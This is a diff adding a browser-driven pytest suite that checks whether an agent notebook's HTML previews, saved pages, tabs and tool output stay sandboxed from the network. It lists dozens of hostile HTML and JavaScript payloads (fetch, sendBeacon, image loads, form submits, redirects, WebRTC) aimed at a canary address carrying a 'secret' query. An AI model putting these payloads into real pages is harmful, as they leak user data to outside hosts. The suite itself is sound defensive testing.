@@ -1,0 +1,223 @@
+"""Hostile pages against a host that must hear nothing, in the live preview, in a tab, and in the saved form.
+
+Each attempt is also made on a page without a policy, to show that the host would hear it.
+"""
+
+import re
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from agent_nb.files import Files
+from agent_nb.render.preview import assembled, frame_attributes, still_frame_attributes
+from tests.support.canary import ADDRESS, Canary, with_profile
+from tests.support.widget_stage import Stage, event, needs_browser, wrote
+
+pytest_plugins = ["tests.support.widget_stage"]
+pytestmark = needs_browser
+SECONDS = 1000
+SETTLE = 700
+"""Milliseconds in which a page that can be heard is heard."""
+
+LOADS = {
+    "image": '<img src="{}">',
+    "image by script": "<script>new Image().src = '{}'</script>",
+    "source set": '<img srcset="{} 2x, {} 1x">',
+    "style sheet": '<link rel="stylesheet" href="{}">',
+    "style import": "<style>@import url({});</style>",
+    "background": '<b style="background: url({})">x</b>',
+    "cursor": "<style>html {{ cursor: url({}), auto }}</style>",
+    "font": "<style>@font-face {{ font-family: f; src: url({}) }} b {{ font-family: f }}</style><b>x</b>",
+    "script": '<script src="{}"></script>',
+    "module": "<script type=module>import('{}')</script>",
+    "svg image": '<svg><image href="{}"/></svg>',
+    "svg filter": '<svg><filter id=a><feImage href="{}"/></filter><rect filter="url(#a)" width=9 height=9 /></svg>',
+    "object": '<object data="{}"></object>',
+    "embed": '<embed src="{}">',
+    "frame": '<iframe src="{}"></iframe>',
+    "video": '<video src="{}" poster="{}" preload=auto></video>',
+    "audio": '<audio src="{}" preload=auto></audio>',
+    "fetch": "<script>fetch('{}', {{ mode: 'no-cors' }}).catch(() => 0)</script>",
+    "beacon": "<script>navigator.sendBeacon('{}', 'x')</script>",
+    "event source": "<script>new EventSource('{}')</script>",
+    "preload": '<link rel="preload" as="image" href="{}">',
+    "module preload": '<link rel="modulepreload" href="{}">',
+    "prefetch": '<link rel="prefetch" href="{}">',
+    "worker import": "<script>new Worker(URL.createObjectURL(new Blob([`importScripts('{}')`])))</script>",
+}
+MOVES = {
+    "navigation": "<script>location.href = '{}'</script>",
+    "late navigation": "<script>setTimeout(() => location.replace('{}'), 200)</script>",
+    "refresh": '<meta http-equiv="refresh" content="0;url={}">',
+    "link": '<a href="{}">x</a><script>document.querySelector("a").click()</script>',
+    "link ping": '<a href="about:blank#x" ping="{}">x</a><script>document.querySelector("a").click()</script>',
+    "form": '<form action="{}"></form><script>document.forms[0].submit()</script>',
+    "form button": '<form method=post action="{}"><button></button></form>'
+    "<script>document.querySelector('button').click()</script>",
+    "frame that leaves": "<iframe srcdoc=\"<script>location.href = '{}'</script>\"></iframe>",
+    "form in a frame": "<iframe srcdoc='<form action={}></form><script>document.forms[0].submit()</script>'></iframe>",
+}
+ATTEMPTS = LOADS | MOVES
+UNHEARD = {
+    "window": "<script>open('{}')</script>",
+    "svg use": '<svg><use href="{}#a"/></svg>',
+    "service worker": "<script>navigator.serviceWorker?.register('{}')</script>",
+    "manifest": '<link rel="manifest" href="{}">',
+    "icon": '<link rel="icon" href="{}">',
+    "speculation": '<script type=speculationrules>{{"prefetch": [{{"source": "list", "urls": ["{}"]}}]}}</script>',
+    "text track": '<video><track default kind=subtitles src="{}"></video>'
+    "<script>document.querySelector('video').textTracks[0].mode = 'showing'</script>",
+    "top": "<script>top.location = '{}'</script>",
+}
+"""What not even a page without a policy gets through here."""
+
+
+@pytest.fixture(scope="module")
+def canary(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Canary]:
+    canary = Canary(tmp_path_factory.mktemp("tls"))
+    yield canary
+    canary.close()
+
+
+@pytest.fixture(scope="module")
+def playwright() -> Iterator[Any]:
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        yield playwright
+
+
+@pytest.fixture(scope="module")
+def context(playwright: Any, canary: Canary, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
+    context = with_profile(playwright, canary, tmp_path_factory.mktemp("browser"))
+    yield context
+    context.close()
+
+
+@pytest.fixture
+def stage(context: Any, server: Any, canary: Canary) -> Iterator[Stage]:
+    stage = Stage(context.new_page(), server)
+    canary.clear()
+    yield stage
+    stage.page.close()
+
+
+def attempt(name: str) -> str:
+    path = f"{ADDRESS}/{name.replace(' ', '-')}?secret"
+    return "<!doctype html><title>t</title><h1>Page</h1>" + (ATTEMPTS | UNHEARD)[name].format(path, path)
+
+
+def framed(stage: Stage, attributes: str) -> None:
+    stage.page.goto(f"{stage.server.address}/nowhere")
+    stage.page.evaluate("html => { document.body.innerHTML = html }", f"<iframe {attributes}></iframe>")
+    stage.page.wait_for_timeout(SETTLE)
+
+
+def played(stage: Stage, page: str) -> None:
+    stage.play([event("turn_started", step=1), *wrote("index.html", page)])
+    stage.page.wait_for_timeout(SETTLE + 300)
+
+
+@pytest.mark.parametrize("name", ATTEMPTS)
+def test_the_canary_hears_a_page_without_a_policy(stage: Stage, canary: Canary, name: str):
+    stage.page.goto(f"{stage.server.address}/nowhere")
+    stage.page.evaluate("page => { document.open(); document.write(page); document.close() }", attempt(name))
+    stage.page.wait_for_timeout(SETTLE)
+    assert [path for path in canary.heard if path.startswith(f"/{name.replace(' ', '-')}?")]
+
+
+@pytest.mark.parametrize("name", ATTEMPTS | UNHEARD)
+def test_a_live_page_is_not_heard(stage: Stage, canary: Canary, name: str):
+    played(stage, attempt(name))
+    assert canary.heard == []
+    assert stage.page.url.startswith(stage.server.address)
+
+
+@pytest.mark.parametrize("name", ATTEMPTS | UNHEARD)
+def test_a_saved_page_is_not_heard(stage: Stage, canary: Canary, name: str):
+    framed(stage, frame_attributes(attempt(name)))
+    assert canary.heard == []
+
+
+def test_the_html_of_a_tool_is_not_heard(stage: Stage, canary: Canary):
+    everything = "".join(attempt(name) for name in ATTEMPTS | UNHEARD)
+    framed(stage, still_frame_attributes(everything))
+    assert canary.heard == []
+    output = {"text/html": everything, "text/plain": "x"}
+    finished = event("tool_finished", call_id="c", ok=True, summary="x", outputs=[output], seconds=0.1)
+    stage.play(
+        [
+            event("turn_started", step=1),
+            event("tool_started", call_id="c", name="any", title="show"),
+            finished | {"code": None, "hint": ""},
+        ]
+    )
+    stage.widget.locator("summary", has_text="show").first.click(timeout=10 * SECONDS)
+    stage.widget.locator("iframe.anb-html").wait_for(timeout=10 * SECONDS)
+    stage.page.wait_for_timeout(SETTLE)
+    assert canary.heard == []
+
+
+@pytest.mark.parametrize("name", ["image", "navigation", "refresh", "form", "fetch"])
+def test_a_page_in_a_tab_of_its_own_is_not_heard(stage: Stage, canary: Canary, name: str):
+    calm = "<!doctype html><h1>Page</h1>"
+    played(stage, calm)
+    stage.more(*[event("file_changed", **change) for change in _replaced(attempt(name), calm)])
+    with stage.page.context.expect_page() as opened:
+        stage.widget.get_by_role("button", name="Open in new tab").first.click()
+    opened.value.wait_for_timeout(SETTLE)
+    opened.value.close()
+    assert canary.heard == []
+
+
+def _replaced(page: str, before: str) -> list[dict[str, Any]]:
+    lines = before.count("\n") + 1
+    change = {"version": 2, "action": "edited", "size": 1, "first_line": 1, "added": 1, "removed": 1}
+    patch = [[0, lines, page]]
+    return [{"path": "index.html", "media_type": "text/html", "call_id": None, "patch": patch, **change}]
+
+
+CONNECTS = """<script>
+if ('RTCPeerConnection' in window) {
+  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] });
+  peer.createDataChannel('x');
+  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+}
+document.title = 'tried';
+</script>"""
+
+
+def test_peer_connections_are_not_made(stage: Stage, canary: Canary):
+    page = CONNECTS.replace("STUN", canary.stun)
+    framed(stage, f'srcdoc="{page.replace(chr(34), "&quot;")}"')
+    stage.page.wait_for_timeout(SETTLE)
+    assert canary.datagrams, "a page without our script is heard"
+    canary.clear()
+    framed(stage, frame_attributes(page))
+    played(stage, page)
+    stage.page.wait_for_timeout(SETTLE)
+    assert canary.datagrams == []
+
+
+def test_hints_in_the_markup_open_no_connection(playwright: Any, canary: Canary, server: Any, tmp_path: Path):
+    """Seen in the browser's own log: a connection without a request reaches no server's."""
+    log = tmp_path / "net.json"
+
+    def page(form: str) -> str:
+        hints = "".join(
+            f'<link rel="{rel}" href="https://{form}-{rel}.example">'
+            for rel in ("preconnect", "dns-prefetch")
+        )
+        return f'<!doctype html><h1>Page</h1>{hints}<a href="https://{form}-anchor.example">x</a>'
+
+    flags = (f"--log-net-log={log}", "--net-log-capture-mode=Everything")
+    context = with_profile(playwright, canary, tmp_path, *flags)
+    stage = Stage(context.new_page(), server)
+    framed(stage, f"srcdoc='{page('plain')}'")
+    framed(stage, frame_attributes(assembled(Files({"index.html": page("saved")}), "index.html", 10_000)))
+    played(stage, page("live"))
+    context.close()
+    named = set(re.findall(r"((?:plain|saved|live)-[a-z-]+)\.example", log.read_text(errors="replace")))
+    assert named == {"plain-preconnect"}
